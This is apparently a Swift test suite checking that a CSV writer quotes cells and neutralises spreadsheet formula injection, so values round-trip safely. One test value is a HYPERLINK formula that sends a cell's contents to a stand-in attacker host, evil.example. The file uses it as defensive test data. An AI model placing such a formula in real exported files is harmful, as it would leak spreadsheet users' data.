import Foundation
import Testing
@testable import Phaseout

// Every cell Phaseout writes is quoted when it needs to be and neutralised when a spreadsheet
// would take it for a formula; reading it back gives the value written (issue #24).

/// Reads CSV text into records of raw (still neutralised) cells.
func csvRecords(_ text: String) -> [[String]] {
    var records: [[String]] = []
    Array(text.utf8).withUnsafeBufferPointer { buffer in
        CSVScanner.scan(buffer, record: { (_: Int, fields: [String]) in records.append(fields) },
                        problem: { Issue.record("CSV problem: \($0.message) on line \($0.line)") })
    }
    return records
}

/// Whether a cell, as a spreadsheet sees it, could start a formula.
func isLiveFormula(_ cell: String) -> Bool {
    guard let first = cell.unicodeScalars.first else { return false }
    return ["=", "+", "-", "@", "\t", "\r"].contains(first)
}

@Suite struct CSVTextTests {
    static let values = [
        "plain", "=1+1", "+44 1234", "-2", "@SUM(A1)", "\t=x", "\r\n=x", "a\r\nb", "a\rb", "a\nb", "say \"hi\"",
        "a,b", "'", "''", "'plain", "'=already", "''+twice", "'\tx", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "", "é=", "x=1",
    ]

    /// Values as the register reader gives them: trimmed, so a leading tab or CR LF can only
    /// come after a neutralising apostrophe, which the scanner does not trim.
    @Test(arguments: values)
    func everyValueRoundTrips(_ value: String) throws {
        let line = CSVText.line([value, "end"])
        let records = csvRecords("h,k\n" + line)
        let cells = try #require(records.count == 2 ? records[1] : nil, "\(records) from \(line)")
        #expect(CSVText.original(cells[0]) == value)
        #expect(cells[1] == "end")
        #expect(!isLiveFormula(cells[0]), "\(cells[0])")
    }

    @Test func crLFInsideAValueIsQuoted() {
        #expect(CSVText.field("a\r\nb") == "\"a\r\nb\"")
        #expect(CSVText.field("a\rb") == "\"a\rb\"")
    }

    @Test func formulaCellsGetOneApostropheAndQuotes() {
        #expect(CSVText.field("=1+1") == "\"'=1+1\"")
        #expect(CSVText.field("'=1+1") == "\"''=1+1\"")
        #expect(CSVText.field("'plain") == "'plain")
        #expect(CSVText.field("2") == "2" && CSVText.field("1100.5") == "1100.5")
        #expect(CSVText.original("'plain") == "'plain" && CSVText.original("''=1") == "'=1" && CSVText.original("'") == "'")
    }
}
